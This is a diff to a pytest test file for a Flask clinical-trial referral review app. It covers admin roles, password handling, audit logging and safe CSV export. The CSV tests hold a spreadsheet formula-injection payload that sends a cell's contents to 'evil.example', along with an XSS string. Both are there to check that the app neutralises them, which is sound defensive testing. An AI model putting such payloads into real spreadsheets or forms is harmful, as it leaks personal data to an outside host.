@@ -26,7 +26,8 @@ XSS = '<script>alert(1)</script> <img src=x onerror=alert(1)>'
 @pytest.fixture
 def app(database, tmp_path, monkeypatch):
     monkeypatch.setenv("BOT_VAR_DIR", str(tmp_path))
-    add_user("maria", PASSWORD)
+    add_user("maria", PASSWORD)  # a coordinator
+    add_user("ada", PASSWORD, role="admin")
     application = create_app()
     application.config["TESTING"] = True  # CSRF stays on: TESTING does not disable Flask-WTF
     return application
@@ -43,9 +44,9 @@ def csrf(client, path="/login"):
     return re.search(r'name="csrf_token" value="([^"]+)"', client.get(path).get_data(as_text=True)).group(1)
 
 
-def logged_in(app):
+def logged_in(app, username="maria"):
     client = app.test_client()
-    response = client.post("/login", data={"username": "maria", "password": PASSWORD, "csrf_token": csrf(client)})
+    response = client.post("/login", data={"username": username, "password": PASSWORD, "csrf_token": csrf(client)})
     assert response.status_code == 302 and response.headers["Location"] == "/"
     return client
 
@@ -165,7 +166,7 @@ def test_the_sms_replies_page_shows_undelivered_replies_without_their_text_or_th
     assert f'<a href="/referrals/{referral}">{referral}</a>' in page and "not consented" in page
     assert "could not connect" in page and "HTTP 503" in page
     assert "13912345678" not in page and "automated" not in page and "RF-XXXX" not in page
-    assert "view_replies" in client.get("/audit").get_data(as_text=True)
+    assert ("maria", "view_replies", "") in audit_rows()
 
 
 def test_the_sms_replies_page_marks_cancelled_replies_and_counts_the_numbers_that_opted_out(app):
@@ -179,20 +180,11 @@ def test_the_sms_replies_page_marks_cancelled_replies_and_counts_the_numbers_tha
     assert "13912345678" not in page and "Question 3" not in page
 
 
-def test_csv_export_escapes_formulas(app, protocol):
-    state = referral_state(contact={**referral_state().contact, "contact_preferred_time": "=HYPERLINK(\"x\")"})
-    reference = referrals.create_referral("csv-1", protocol, state)
-    response = logged_in(app).get("/referrals.csv")
-    text = response.get_data(as_text=True)
-    assert response.mimetype == "text/csv" and reference in text
-    assert "'=HYPERLINK" in text
-
-
 def test_audit_log_records_who_opened_and_changed_what(app, referral):
     client = logged_in(app)
     client.get(f"/referrals/{referral}")
     client.get("/referrals.csv")
-    page = client.get("/audit").get_data(as_text=True)
+    page = logged_in(app, "ada").get("/audit").get_data(as_text=True)  # an admin reads it
     for action in ("login", "view_referral", "export_csv"):
         assert f"<td>maria</td><td>{action}</td>" in page
     assert f"referral {referral}" in page and "alert" not in page  # no health data or volunteer text
@@ -222,8 +214,8 @@ def test_a_chinese_referral_shows_its_language_and_the_volunteers_words_beside_t
     assert protocol.by_id["hiv"].text.replace("≥", "≥") in page  # the registry's English criterion
     assert protocol.in_language("zh").by_id["hiv"].question in page and ">没有</td>" in page
     assert ">中文</td>" in client.get("/").get_data(as_text=True)
-    rows = list(csv.reader(io.StringIO(client.get("/referrals.csv").get_data(as_text=True))))
-    assert rows[0][3] == "language" and rows[1][3] == "zh"
+    rows = list(csv.reader(io.StringIO(client.get("/referrals.csv").get_data().decode("utf-8-sig"))))
+    assert rows[0][3] == "Language" and rows[1][3] == "中文"
 
 
 def test_the_translations_page_lists_what_awaits_approval(app, protocol):
@@ -734,3 +726,346 @@ def test_the_funnel_counts_every_stage_a_referral_reached_and_draws_it_without_s
     assert 'aria-label="All referrals: Referred 2, Contacted 1, Visit booked 1, Enrolled 0"' in page
     assert "By week" in page and "By channel" in page and "By language" in page and "By verdict" in page
     assert app.test_client().get("/report").status_code == 302  # no login, no report
+
+
+# Issue 17, item 6: users and roles.
+
+def admin_only(rule: str) -> bool:
+    return rule == "/audit" or rule.startswith("/admin/")
+
+
+def shown_password(response) -> str:
+    return re.search(r'<code class="password">([^<]+)</code>', response.get_data(as_text=True)).group(1)
+
+
+def session_contents(app, client) -> str:
+    """What the signed session cookie carries, decoded (it is signed, not encrypted: anyone can read it)."""
+    cookie = client.get_cookie("session")
+    return repr(app.session_interface.get_signing_serializer(app).loads(cookie.value)) if cookie else ""
+
+
+def test_every_admin_route_refuses_a_coordinator_and_the_refusal_is_audited(app, referral):
+    client = logged_in(app)  # maria, a coordinator
+    token = csrf(client, "/")
+    swept = []
+    for rule in app.url_map.iter_rules():
+        if not admin_only(rule.rule):
+            continue
+        for method in rule.methods - {"HEAD", "OPTIONS"}:
+            response = client.open(rule.rule, method=method, data={
+                "csrf_token": token, "username": "ada" if "add" not in rule.endpoint else "mallory",
+                "role": "coordinator"})
+            assert response.status_code == 403, (method, rule.rule, response.status_code)
+            assert "This page is for admins" in response.get_data(as_text=True)
+            swept.append((method, rule.rule))
+    assert {("GET", "/audit"), ("GET", "/admin/users"), ("POST", "/admin/users"), ("POST", "/admin/users/disable"),
+            ("POST", "/admin/users/enable"), ("POST", "/admin/users/reset"), ("POST", "/admin/users/role")} <= set(swept)
+    refused = [record for who, action, record in audit_rows() if who == "maria" and action == "refused_not_admin"]
+    assert len(refused) == len(swept) and "/admin/users/disable" in refused
+    with store.unit_of_work() as db:  # nothing was done
+        users = {u.username: (u.role, u.disabled) for u in db.query(store.StaffUser)}
+    assert users == {"maria": ("coordinator", False), "ada": ("admin", False)}
+    page = client.get("/").get_data(as_text=True)  # and the coordinator's menu does not offer them
+    assert 'href="/audit"' not in page and 'href="/admin/users"' not in page and 'href="/account/password"' in page
+
+
+def test_a_coordinator_opens_every_page_that_is_not_for_admins(app, referral):
+    client = logged_in(app)
+    for path in ("/", f"/referrals/{referral}", "/screenings", "/other-studies", "/replies", "/translations",
+                 "/referrals.csv", "/account/password"):
+        assert client.get(path).status_code == 200, path
+    admin = logged_in(app, "ada")
+    assert admin.get("/audit").status_code == 200 and admin.get("/admin/users").status_code == 200
+    page = admin.get("/").get_data(as_text=True)
+    assert 'href="/audit"' in page and 'href="/admin/users"' in page
+
+
+def test_an_admin_adds_a_user_whose_temporary_password_is_shown_once_and_must_be_changed_first(app):
+    admin = logged_in(app, "ada")
+    response = admin.post("/admin/users", data={"username": "li", "role": "coordinator",
+                                                "csrf_token": csrf(admin, "/admin/users")})
+    assert response.status_code == 200  # shown in this answer: no redirect, so not in the session cookie
+    temporary = shown_password(response)
+    assert re.fullmatch(r"[a-z2-9]{4}(-[a-z2-9]{4}){3}", temporary)
+    assert temporary not in session_contents(app, admin) and "li" in response.get_data(as_text=True)
+    assert temporary not in admin.get("/admin/users").get_data(as_text=True)  # only that once
+    listed = admin.get("/admin/users").get_data(as_text=True)
+    assert re.search(r"<td>li<br><span class=\"meta\">temporary password, not yet changed</span></td>\s*"
+                     r"<td>Coordinator</td>\s*<td>No</td>", listed)
+    # the same name again, or no name, is refused
+    again = admin.post("/admin/users", data={"username": "li", "role": "admin", "csrf_token": csrf(admin, "/")})
+    assert again.status_code == 400 and "exists already" in again.get_data(as_text=True)
+    assert admin.post("/admin/users", data={"username": " ", "csrf_token": csrf(admin, "/")}).status_code == 400
+
+    li = app.test_client()
+    assert login_post(li, "li", temporary).status_code == 302
+    for path in ("/", "/referrals.csv", "/screenings"):  # nothing opens before the password is changed
+        response = li.get(path)
+        assert response.status_code == 302 and response.headers["Location"] == "/account/password", path
+    page = li.get("/account/password").get_data(as_text=True)
+    assert "You logged in with a temporary password" in page
+    token = csrf(li, "/account/password")
+    assert li.post("/account/password", data={"current": temporary, "new": temporary, "again": temporary,
+                                              "csrf_token": token}).status_code == 400  # the same one
+    done = li.post("/account/password", data={"current": temporary, "new": "li's own long password",
+                                              "again": "li's own long password", "csrf_token": token})
+    assert done.status_code == 302 and done.headers["Location"] == "/"
+    assert li.get("/").status_code == 200 and li.get("/referrals.csv").status_code == 200
+    assert login_post(app.test_client(), "li", temporary).status_code == 401  # the temporary one is gone
+    assert "temporary password, not yet changed" not in admin.get("/admin/users").get_data(as_text=True)
+
+    rows = audit_rows()
+    assert ("ada", "user_added", "user li as coordinator") in rows and ("li", "own_password_changed", "user li") in rows
+    assert not any(secret in field for row in rows for field in row
+                   for secret in (temporary, "li's own long password", PASSWORD))
+
+
+def test_an_admin_disables_enables_resets_and_changes_roles_and_each_is_audited(app):
+    maria = logged_in(app)
+    admin = logged_in(app, "ada")
+
+    def act(what, **form):
+        return admin.post(f"/admin/users/{what}", data={"username": "maria", "csrf_token": csrf(admin, "/"), **form})
+
+    assert act("disable").status_code == 302
+    assert maria.get("/").status_code == 302  # her open session ended
+    assert login_post(app.test_client()).status_code == 403
+    assert act("enable").status_code == 302
+    maria = logged_in(app)
+
+    reset = act("reset")
+    temporary = shown_password(reset)
+    assert "their open sessions have ended" in reset.get_data(as_text=True)
+    assert maria.get("/").status_code == 302  # ended
+    assert login_post(app.test_client()).status_code == 401  # the old password no longer works
+    maria = app.test_client()
+    assert login_post(maria, "maria", temporary).status_code == 302
+    assert maria.get("/").headers["Location"] == "/account/password"
+    maria.post("/account/password", data={"current": temporary, "new": "maria's new password",
+                                          "again": "maria's new password", "csrf_token": csrf(maria, "/account/password")})
+    assert maria.get("/").status_code == 200 and maria.get("/audit").status_code == 403
+
+    assert act("role", role="admin").status_code == 302
+    assert maria.get("/audit").status_code == 200  # at her next click, without logging in again
+    assert act("role", role="boss").status_code == 302  # no such role: nothing changes
+    assert act("role", role="coordinator").status_code == 302
+    assert maria.get("/audit").status_code == 403
+
+    # an admin does not disable or demote themselves here (so an enabled admin always remains)
+    for what, form in (("disable", {}), ("role", {"role": "coordinator"}), ("reset", {})):
+        response = admin.post(f"/admin/users/{what}", data={"username": "ada", "csrf_token": csrf(admin, "/"), **form})
+        assert response.status_code == 302
+    assert "You can&#39;t do that to your own login here" in admin.get("/admin/users").get_data(as_text=True)
+    assert admin.get("/audit").status_code == 200
+    assert admin.post("/admin/users/disable", data={"username": "nobody", "csrf_token": csrf(admin, "/")}
+                      ).status_code == 404
+
+    by_ada = [(action, record) for who, action, record in audit_rows() if who == "ada"]
+    for entry in (("user_disabled", "user maria"), ("user_enabled", "user maria"), ("password_reset", "user maria"),
+                  ("role_changed", "user maria: coordinator to admin"),
+                  ("role_changed", "user maria: admin to coordinator")):
+        assert entry in by_ada, entry
+    assert not any(a == "role_changed" and "boss" in r for a, r in by_ada)
+    assert not any(temporary in field or "maria's new password" in field for row in audit_rows() for field in row)
+
+
+def test_everyone_changes_their_own_password_which_ends_their_other_sessions(app):
+    here, elsewhere = logged_in(app), logged_in(app)
+    token = csrf(here, "/account/password")
+
+    def change(current, new, again):
+        return here.post("/account/password", data={"current": current, "new": new, "again": again,
+                                                     "csrf_token": token})
+
+    wrong = change("not my password", "a new long password", "a new long password")
+    assert wrong.status_code == 400 and "The current password is not right" in wrong.get_data(as_text=True)
+    differ = change(PASSWORD, "a new long password", "another long password")
+    assert differ.status_code == 400 and "The two new passwords differ" in differ.get_data(as_text=True)
+    short = change(PASSWORD, "short", "short")
+    assert short.status_code == 400 and "at least 12 characters" in short.get_data(as_text=True)
+    assert elsewhere.get("/").status_code == 200  # nothing changed yet
+
+    done = change(PASSWORD, "a new long password", "a new long password")
+    assert done.status_code == 302 and "Your password is changed" in here.get("/").get_data(as_text=True)
+    assert here.get("/").status_code == 200  # this session goes on ...
+    assert elsewhere.get("/").status_code == 302  # ... the other one ended
+    assert login_post(app.test_client()).status_code == 401
+    assert login_post(app.test_client(), password="a new long password").status_code == 302
+    with store.unit_of_work() as db:
+        assert db.query(store.StaffUser).filter_by(username="maria").one().password_hash.startswith("$argon2id$")
+    rows = audit_rows()
+    assert ("maria", "password_change_failed", "wrong current password") in rows
+    assert ("maria", "own_password_changed", "user maria") in rows
+    assert not any(secret in field for row in rows for field in row
+                   for secret in ("not my password", "a new long password", PASSWORD))
+
+
+def test_users_add_command_takes_a_role_and_users_role_changes_it(database, capsys):
+    assert users_command("add", "li", password="a long enough password") == 0
+    assert users_command("add", "chen", "--role", "admin", password="a long enough password") == 0
+    assert "added chen as admin" in capsys.readouterr().out
+    with store.unit_of_work() as db:
+        roles = {u.username: (u.role, u.must_change_password) for u in db.query(store.StaffUser)}
+    assert roles == {"li": ("coordinator", False), "chen": ("admin", False)}
+    assert users_command("role", "li", "admin") == 0
+    with store.unit_of_work() as db:
+        assert db.query(store.StaffUser).filter_by(username="li").one().role == "admin"
+    assert ("command line", "role_changed", "user li: coordinator to admin") in audit_rows()
+    from bot.__main__ import main
+    with pytest.raises(SystemExit):
+        main(["users", "add", "x", "--role", "boss", "--password-stdin"])
+    assert users_command("role", "nobody", "admin") == 2
+
+
+# Issue 17, item 5: the CSV for spreadsheets.
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+
+
+@pytest.fixture
+def chinese_sms_referral(app, protocol):
+    from dataclasses import replace as with_
+    answers = {**referral_state().answers, "hiv": RecordedAnswer("no", "没有"),
+               "age": RecordedAnswer(52, "我今年52岁"), "autoimmune": RecordedAnswer("no", "No")}
+    state = with_(referral_state(answers=answers, contact={**referral_state().contact, "contact_name": "王芳",
+                                                           "contact_preferred_time": HYPERLINK}), language="zh")
+    reference = referrals.create_referral("sms-5f2a9c", protocol, state)
+    client = logged_in(app)
+    token = csrf(client, f"/referrals/{reference}")
+    for outcome, note in (("left_message", "Left a voicemail, 下午再打"), ("reached", "")):
+        client.post(f"/referrals/{reference}/attempts", data={"channel": "phone", "outcome": outcome, "note": note,
+                                                              "csrf_token": token})
+    client.post(f"/referrals/{reference}", data={"status": "contacted", "note": "-1 day: she asked to wait",
+                                                 "csrf_token": token})
+    return reference
+
+
+def exported(client):
+    response = client.get("/referrals.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == "attachment; filename=referrals.csv"
+    return response.get_data()
+
+
+def test_the_csv_opens_in_a_spreadsheet_with_plain_labels_answers_in_words_and_notes(app, protocol,
+                                                                                     chinese_sms_referral):
+    raw = exported(logged_in(app))
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, which Excel needs to show Chinese
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert len(rows) == 1
+    header = list(rows[0])
+    assert header[:17] == ["Reference", "Received (Asia/Shanghai)", "Trial", "Language", "Channel", "Verdict",
+                           "Status", "Not sure (how many)", "Not sure about", "Name", "Phone", "E-mail",
+                           "Preferred way", "Preferred time", "Sent to the study team", "Notes", "Contact attempts"]
+    assert header[17:] == [c.short for c in protocol.questions]  # one column per criterion, by its short text
+    row = rows[0]
+    assert row["Reference"] == chinese_sms_referral and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d",
+                                                                     row["Received (Asia/Shanghai)"])
+    assert (row["Language"], row["Channel"], row["Verdict"], row["Status"]) == ("中文", "SMS", "Needs review",
+                                                                                 "Contacted")
+    assert row["Not sure (how many)"] == "1" and row["Not sure about"] == protocol.by_id["blood_counts"].short
+    assert row["Name"] == "王芳" and row["Preferred way"] == "E-mail or phone" and row["E-mail"] == "ana@example.com"
+    assert row["Phone"] == "(+86) 138 0013 8000"  # no apostrophe, no lost digits, not a formula
+    assert row["Preferred time"] == "'" + HYPERLINK  # the volunteer's formula, neutralised
+    assert row["Sent to the study team"] == "Waiting to be sent"
+    tried = row["Contact attempts"].split("\n")
+    assert len(tried) == 2 and re.fullmatch(r"1\. \d{4}-\d\d-\d\d \d\d:\d\d Phone, Left a message \(maria\): "
+                                            r"Left a voicemail, 下午再打", tried[0])
+    assert re.fullmatch(r"2\. .* Phone, Reached \(maria\)", tried[1])
+    short = {c.id: c.short for c in protocol.questions}
+    assert row[short["hiv"]] == 'No ("没有")' and row[short["age"]] == '52 ("我今年52岁")'
+    assert row[short["autoimmune"]] == "No" and row[short["blood_counts"]] == 'Not sure ("no idea")'
+    notes = row["Notes"].split("\n")
+    assert len(notes) == 2 and re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d maria: New → Contacted: "
+                                            r"Attempt 2 reached them", notes[0])
+    assert notes[1].endswith(" maria: -1 day: she asked to wait")
+    for cells in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):  # no cell can start a formula
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")], cells
+    assert "in_progress" not in raw.decode() and "needs_review" not in raw.decode()
+    # every field in double quotes (OWASP): a ; or , inside a field never starts a cell in any locale
+    assert raw.decode("utf-8-sig").startswith('"Reference","Received (Asia/Shanghai)",')
+    assert "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\"" in raw.decode()
+    assert ("maria", "export_csv", "1 referrals") in audit_rows()
+
+
+def test_csv_phone_numbers_read_as_the_number_and_never_as_a_formula():
+    from bot.review.spreadsheet import cell, phone_cell
+    assert phone_cell("+8613912345678") == "(+86) 139 1234 5678"
+    assert phone_cell("+12015550123") == "(+1) 201-555-0123"
+    assert phone_cell("+442079460958") == "(+44) 20 7946 0958"
+    assert phone_cell(None) == "" and phone_cell("=1+2") == "'=1+2" and phone_cell("+1") == "'+1"
+    for number in ("+8613912345678", "+12015550123", "+442079460958"):
+        shown = phone_cell(number)
+        assert shown[0] == "(" and re.sub(r"\D", "", shown) == number[1:]
+        with pytest.raises(ValueError):
+            float(shown.replace(" ", ""))
+    assert cell("＝1+2") == "'＝1+2" and cell("-3") == "'-3" and cell("@SUM(A1)") == "'@SUM(A1)" and cell(52) == "52"
+
+
+def test_csv_referrals_of_several_trials_each_fill_their_own_trials_columns(app, protocol, chinese_sms_referral):
+    other = store.Referral(reference="RF-OTHR-0001", sender_id="web-other", trial_id="NCT09999999", protocol_version=1,
+                           verdict="likely_eligible", flags=[], doctor_checklist=[], contact_name="Li Lei",
+                           contact_phone="+12015550123", contact_preferred_way="phone", language="en",
+                           answers=[{"criterion_id": "migraine_days", "criterion_text": "4 to 14 migraine days a month",
+                                     "question": "…", "answer": "yes", "text": "about 6 a month"}])
+    with store.unit_of_work() as db:
+        db.add(other)
+    rows = list(csv.DictReader(io.StringIO(exported(logged_in(app)).decode("utf-8-sig"), newline="")))
+    by_reference = {r["Reference"]: r for r in rows}
+    hiv, migraine = f"{protocol.by_id['hiv'].short} (NCT04143984)", "4 to 14 migraine days a month (NCT09999999)"
+    assert by_reference["RF-OTHR-0001"][migraine] == 'Yes ("about 6 a month")'
+    assert by_reference["RF-OTHR-0001"][hiv] == "" and by_reference[chinese_sms_referral][migraine] == ""
+    assert by_reference[chinese_sms_referral][hiv] == 'No ("没有")'
+    assert by_reference["RF-OTHR-0001"]["Channel"] == "web chat" and by_reference["RF-OTHR-0001"]["Phone"] == "(+1) 201-555-0123"
+
+
+def xlsx_cells(path):
+    """The cells of the first sheet of an .xlsx file: {"A1": ("s", text) or ("n", value) or ("f", formula)}."""
+    import zipfile
+    from xml.etree import ElementTree
+
+    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with zipfile.ZipFile(path) as book:
+        shared = ["".join(t.text or "" for t in si.iter(f"{{{ns['x']}}}t"))
+                  for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).findall("x:si", ns)]
+        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
+    cells = {}
+    for c in sheet.iter(f"{{{ns['x']}}}c"):
+        formula, value = c.find("x:f", ns), c.find("x:v", ns)
+        if formula is not None:
+            cells[c.get("r")] = ("f", formula.text)
+        elif c.get("t") == "s":
+            cells[c.get("r")] = ("s", shared[int(value.text)])
+        elif value is not None:
+            cells[c.get("r")] = ("n", value.text)
+    return cells
+
+
+def libreoffice_opens(csv_path, tmp_path):
+    """LibreOffice Calc reads the CSV as UTF-8 (its formulas evaluated, as by default) and saves it as .xlsx."""
+    import shutil
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        pytest.skip("SKIPPED: LibreOffice is not installed (apt-get install libreoffice-calc)")
+    done = subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
+                           "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
+                           str(csv_path)], capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    return xlsx_cells(tmp_path / (csv_path.stem + ".xlsx"))
+
+
+def test_libreoffice_shows_the_phone_as_the_number_and_runs_no_formula_from_the_csv(app, tmp_path,
+                                                                                    chinese_sms_referral):
+    control = tmp_path / "control.csv"  # the same reader does run a formula that is not neutralised
+    control.write_text('"a","b"\r\n"=1+2","+86 139 1234 5678"\r\n', encoding="utf-8")
+    assert libreoffice_opens(control, tmp_path)["A2"] == ("f", "1+2")
+
+    path = tmp_path / "referrals.csv"
+    path.write_bytes(exported(logged_in(app)))
+    cells = libreoffice_opens(path, tmp_path)
+    header = {text: ref[:-1] for ref, (kind, text) in cells.items() if ref.endswith("1") and ref[-2].isalpha()}
+    assert cells["A1"] == ("s", "Reference")  # the byte-order mark is not part of the first label
+    assert cells[header["Phone"] + "2"] == ("s", "(+86) 138 0013 8000")
+    assert cells[header["Preferred time"] + "2"] == ("s", "'" + HYPERLINK)
+    assert cells[header["Language"] + "2"] == ("s", "中文")
+    assert not [ref for ref, (kind, _) in cells.items() if kind == "f"]
